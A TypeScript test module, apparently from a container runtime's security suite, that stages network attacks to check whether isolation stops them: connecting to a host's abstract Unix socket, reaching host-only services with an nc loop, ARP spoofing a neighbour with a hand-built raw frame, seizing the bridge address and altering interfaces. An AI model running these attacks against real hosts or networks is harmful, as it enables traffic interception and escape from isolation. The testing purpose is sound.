// Attacks over the network: on the host, and on neighbours.

import { readdirSync, readFileSync } from 'node:fs'
import type { AddressInfo } from 'node:net'
import { createServer } from 'node:net'
import * as C from '../../src/syscall/constants.ts'
import { ioctl } from '../../src/syscall/file.ts'
import { socket } from '../../src/syscall/socket.ts'
import { syscall } from '../../src/syscall/syscall.ts'
import { attacks, lastWorked, type Protection, type Seen, type Stage, says } from './attack.ts'
import { fixedAddress, fixedMemory, numbered } from './calls.ts'
import { secret } from './host.ts'
import { program } from './place.ts'
import { capabilities, given, networkNamespace } from './protections.ts'
import { spawnCommand } from './spawn.ts'

const noIpv6: Protection = {
  layer: 'no IPv6 on the bridge',
  without: 'disable_ipv6 at 0 on a bridge, as the kernel has it',
}

export const network = attacks(
  {
    name: 'sockets without a file',
    cve: 'CVE-2020-15257',
    tries: 'connects with an abstract socket of a program of the host, as containerd’s shim had one',
    stoppedBy: [networkNamespace],
    left: 'what the program itself asks of those who connect',
    attack: {
      does: async (stage) => {
        await using _server = await serving(`\0${stage.host.token}`)
        const name = Buffer.from(`\x01\x00\x00${stage.host.token}`)
        const fd = socket(C.AF_UNIX, C.SOCK_STREAM, 0)
        return await stage.run([], { calls: [fd, syscall('connect', fd, name, name.length)] })
      },
    },
    gotThrough: lastWorked,
  },
  {
    name: 'services that listen to the host alone',
    tries: 'connects with a port of 127.0.0.1, by that address and by the one of the bridge',
    cve: 'CVE-2020-8558',
    stoppedBy: [networkNamespace],
    left: 'what the service itself asks of those who connect; most ask those from 127.0.0.1 for nothing',
    attack: {
      does: async (stage) => {
        await using server = await serving(0)
        const script = `for host in 127.0.0.1 $(ip route | sed -n 's/^default via \\([^ ]*\\).*/\\1/p'); do nc -w 2 $host ${server.port} < /dev/null; done; true`
        return await stage.run([], { script })
      },
    },
    gotThrough: says(secret),
  },
  {
    name: 'say that the router is here',
    tries:
      'tells a neighbour by ARP that the address of the bridge is hers, and gets all that the neighbour sends',
    stoppedBy: [given('NET_RAW')],
    left: 'networks of one’s own: only those on the same one are neighbours. As in Docker, the right is there by default',
    attack: { does: spoof },
    gotThrough: says('deceived'),
  },
  {
    name: 'take the address of another',
    tries: 'gives her interface the address of the bridge',
    stoppedBy: [capabilities('NET_ADMIN')],
    left: 'networks of one’s own: only those on the same one are neighbours',
    flags: ['--network', 'bridge'],
    attack: () => ({ script: 'ip addr add 172.29.0.1/16 dev eth0 && echo taken' }),
    gotThrough: says('taken'),
  },
  {
    name: 'rules of the firewall',
    tries: 'changes settings of the network, as those of forwarding',
    stoppedBy: [capabilities('NET_ADMIN')],
    left: 'the network namespace: they are her own',
    attack: () => ({
      script: 'ip link set lo down && ip link show lo | grep -q "state DOWN" && echo changed',
    }),
    gotThrough: says('changed'),
  },
  {
    name: 'be the router of IPv6',
    cve: 'CVE-2020-13401',
    tries: 'tells the host by a router advertisement that the way to the Internet is by her',
    stoppedBy: [noIpv6],
    left: 'accept_ra at 0, or forwarding of IPv6 at 1, where the host has set it',
    shownBy:
      'not a packet is sent: a bridge that is no part of IPv6 hears none, and one that is does accept them',
    missing: () => !readdirSync('/proc/sys/net').includes('ipv6') && 'this kernel has no IPv6',
    attack: {
      does: async ({ isOff, run }) => {
        const of = (name: string) =>
          ['disable_ipv6', 'accept_ra'].map((key) =>
            readFileSync(`/proc/sys/net/ipv6/conf/${name}/${key}`, 'utf8').trim(),
          )
        if (isOff(noIpv6)) {
          const [disabled, accepts] = of('default')
          return { status: 0, stderr: '', results: [], stdout: `${disabled} ${accepts}` }
        }
        await run(['--network', 'bridge'], { script: 'true' })
        const bridges = readdirSync('/sys/class/net').filter((name) => name.startsWith('gocker'))
        return {
          status: 0,
          stderr: '',
          results: [],
          stdout: bridges.map((name) => of(name).join(' ')).join('\n'),
        }
      },
    },
    gotThrough: ({ stdout }) => /^0 [12]$/m.test(stdout),
  },
)

interface Server extends AsyncDisposable {
  readonly port: number
}

/** A service of the host that tells its secret to everyone who connects. */
async function serving(where: string | 0): Promise<Server> {
  const server = createServer((line) => void line.on('error', () => {}).end(secret))
  await new Promise<void>((resolve) => {
    if (where === 0) server.listen(0, '127.0.0.1', resolve)
    else server.listen(where, resolve)
  })
  return {
    port: (server.address() as AddressInfo).port,
    [Symbol.asyncDispose]: () => new Promise<void>((resolve) => void server.close(() => resolve())),
  }
}

/** Mallory tells a neighbour a lie about 172.29.0.1; the neighbour says whom it believes. arp(7), packet(7) */
async function spoof({ host, run }: Stage): Promise<Seen> {
  const name = `neighbour-${host.pid}`
  const words = ['run', '-d', '--name', name, '--network', 'bridge', 'tiny', 'sleep', '1000']
  await spawnCommand([program, ...words])
  try {
    const asked = await spawnCommand([
      program,
      'exec',
      name,
      'cat',
      '/sys/class/net/eth0/address',
      '/proc/net/fib_trie',
    ])
    const mac = asked.stdout.slice(0, 17)
    const address = /\|-- (172\.29\.\d+\.\d+)\n +\/32 host LOCAL/.exec(asked.stdout)![1]!
    const hex = (text: string) => text.replaceAll(':', '')
    const ip = (text: string) => Buffer.from(text.split('.').map(Number)).toString('hex')
    const lie = '024206660666'
    // Ethernet, then ARP: who has (1) the neighbour's address? asks 172.29.0.1, and it is at this address
    const frame =
      `${hex(mac)}${lie}0806` + `0001080006040001${lie}${ip('172.29.0.1')}${hex(mac)}${ip(address)}`
    const fd = socket(17, 3, 0x0608)
    // struct sockaddr_ll: the interface's number is asked for before, by SIOCGIFINDEX, into a struct ifreq
    const memory = fixedMemory()
    const file = syscall('memfd_create', 'x', 0)
    const into = (at: number, bytes: Buffer) => [
      syscall('lseek', file, 0, 0),
      syscall('write', file, bytes, bytes.length),
      syscall('lseek', file, 0, 0),
      syscall('read', file, at, bytes.length),
    ]
    const request = fixedAddress
    const to = fixedAddress + 1024
    const packet = Buffer.from(frame, 'hex')
    const seen = await run(['--network', 'bridge'], {
      calls: [
        memory,
        file,
        fd,
        ...into(request, Buffer.from('eth0')),
        ioctl(fd, 0x8933, request),
        ...into(to, Buffer.from('11000806', 'hex')),
        // the number goes from one struct into the other
        syscall('lseek', file, 0, 0),
        syscall('write', file, request + 16, 4),
        syscall('lseek', file, 0, 0),
        syscall('read', file, to + 4, 4),
        ...into(to + 11, Buffer.from(`06${hex(mac)}`, 'hex')),
        numbered(44, 206, fd, packet, packet.length, 0, to, 20),
      ],
    })
    const after = await spawnCommand([program, 'exec', name, 'cat', '/proc/net/arp'])
    return { ...seen, stdout: after.stdout.includes('02:42:06:66:06:66') ? 'deceived' : after.stdout }
  } finally {
    await spawnCommand([program, 'rm', '-f', name])
  }
}
